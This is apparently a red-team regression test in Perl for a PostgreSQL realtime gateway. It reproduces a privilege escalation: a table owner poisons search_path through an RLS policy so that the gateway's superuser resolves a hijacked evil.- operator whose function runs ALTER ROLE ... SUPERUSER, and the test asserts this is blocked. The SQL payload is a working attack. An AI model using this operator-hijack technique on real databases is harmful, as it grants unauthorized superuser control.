# Red-team round 6b (bv_realtime): code run as a client leaves settings in
# the gateway's superuser session.
#
# Finding 8 (critical: a table owner becomes superuser).  The gateway's
#   worker runs code written by other roles under the client's role: RLS
#   policies of realtime tables (written by the table's owner), grants'
#   check functions and handlers.  0.4.0 stops such code from changing
#   roles (rt_role_lock, tap/bv_redteam5_realtime_role), but not from
#   changing settings: set_config(..., false) made in a transaction the
#   worker commits (the visibility check of a table change, an
#   authorization, a handler call) stays in the worker's session for every
#   later transaction, its own included.  The worker's own SQL runs as the
#   bootstrap superuser and resolves unqualified operators through
#   search_path (e.g. the revocation check, auth.c: "WHERE revoked_at > $1
#   - interval '1 minute'", every revocation_check_interval).  So:
#   1. a role that owns a table (no special privilege: CREATE on the
#      database) creates schema evil with an operator evil.-(timestamptz,
#      interval) whose function runs ALTER ROLE ... SUPERUSER when it finds
#      itself running as a superuser, and an RLS policy on its table that
#      calls set_config('search_path', 'evil, pg_catalog', false);
#   2. the table is enabled for realtime (bv_realtime.enable_table), any
#      client subscribes to it, the owner inserts a row: the gateway checks
#      the row's visibility as the client, the policy poisons search_path;
#   3. within revocation_check_interval (2 s) the worker runs its
#      revocation query as the superuser, picks evil.- and the owner is a
#      superuser.
#   Other settings leak the same way between clients and into the worker
#   (statement_timeout, default_transaction_read_only, request.* claims,
#   work_mem).  Expected: settings changed by client-run code end with its
#   transaction (a GUC nest level, or the worker re-applies its own
#   search_path with PGC_S_OVERRIDE and qualifies every operator), and no
#   code of another role ever runs as the worker's superuser.
use strict;
use warnings;

use PostgreSQL::Test::Cluster;
use PostgreSQL::Test::Utils;
use Test::More;
use BvTest;
use lib "$ENV{BV_SRC}/tests/tools";
use BvRealtime;

my $node = BvTest::new_node('red6bguc');
BvTest::create_suite_db($node);
my $rt = BvRealtime->new($node);

$rt->sql(q{
CREATE ROLE tabown LOGIN;
GRANT CREATE ON DATABASE bitvelocity TO tabown;
SET ROLE tabown;
CREATE SCHEMA evil;
GRANT USAGE ON SCHEMA evil TO PUBLIC;
CREATE TABLE evil.calls (who text, super boolean, at timestamptz DEFAULT clock_timestamp());
GRANT INSERT ON evil.calls TO PUBLIC;
-- Any code of tabown's that runs as a superuser notes it, and escalates.
CREATE FUNCTION evil.pwn(timestamptz, interval) RETURNS timestamptz LANGUAGE plpgsql AS $f$
DECLARE s boolean := (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user);
BEGIN
  IF s THEN
    INSERT INTO evil.calls (who, super) VALUES (current_user, s);
    EXECUTE 'ALTER ROLE tabown SUPERUSER';
  END IF;
  RETURN $1 OPERATOR(pg_catalog.-) $2;
END $f$;
CREATE OPERATOR evil.- (LEFTARG = timestamptz, RIGHTARG = interval, FUNCTION = evil.pwn);
CREATE FUNCTION evil.poison() RETURNS boolean LANGUAGE plpgsql AS $f$
BEGIN
  PERFORM pg_catalog.set_config('search_path', 'evil, pg_catalog, public', false);
  RETURN true;
END $f$;
CREATE TABLE evil.items (id int PRIMARY KEY, owner text);
ALTER TABLE evil.items ENABLE ROW LEVEL SECURITY;
CREATE POLICY p ON evil.items FOR SELECT USING (evil.poison());
GRANT SELECT ON evil.items TO bv_user;
});
is($rt->sql(q{SELECT rolsuper FROM pg_roles WHERE rolname = 'tabown'}), 'f', 'control: tabown is no superuser');
$rt->sql(q{SELECT bv_realtime.enable_table('evil.items')});

my $tok = $rt->token(role => 'bv_user', sub => 'u1');
my $revocable = $rt->token(role => 'bv_user', sub => 'u2', jti => 'red6b-revoke-me');
my $sub = $rt->ws(query => "access_token=$tok&topics=table:evil.items");
my $victim = $rt->ws(query => "access_token=$revocable&topics=table:evil.items");
$rt->wait_for(sub { (grep { ($_->{type} // '') eq 'subscribed' } $sub->frames) && (grep { ($_->{type} // '') eq 'subscribed' } $victim->frames) },
	'both clients subscribed');
$node->safe_psql('bitvelocity', q{SET ROLE tabown; INSERT INTO evil.items VALUES (1, 'u1')});
$rt->wait_for(sub { $sub->messages >= 1 }, 'the change was checked under the policy and delivered');
is(scalar($sub->messages), 1, 'control: the subscriber got the row (the policy ran in the gateway)');
# The revocation check runs after the policy did: the revoked client's
# close shows it.
$rt->sql(q{SELECT bv.jwt_revoke('red6b-revoke-me')});
$rt->wait_for(sub { $victim->closed }, 'the revoked client was closed');
is($victim->closed->{reason}, 'token revoked', 'control: the revocation check ran after the policy');

{
	is($rt->sql(q{SELECT count(*) FROM evil.calls}), '0', 'no function of the table owner ran as a superuser');
	is($rt->sql(q{SELECT rolsuper FROM pg_roles WHERE rolname = 'tabown'}), 'f', 'the table owner did not become a superuser');
}
$_->stop for ($sub, $victim);

done_testing();
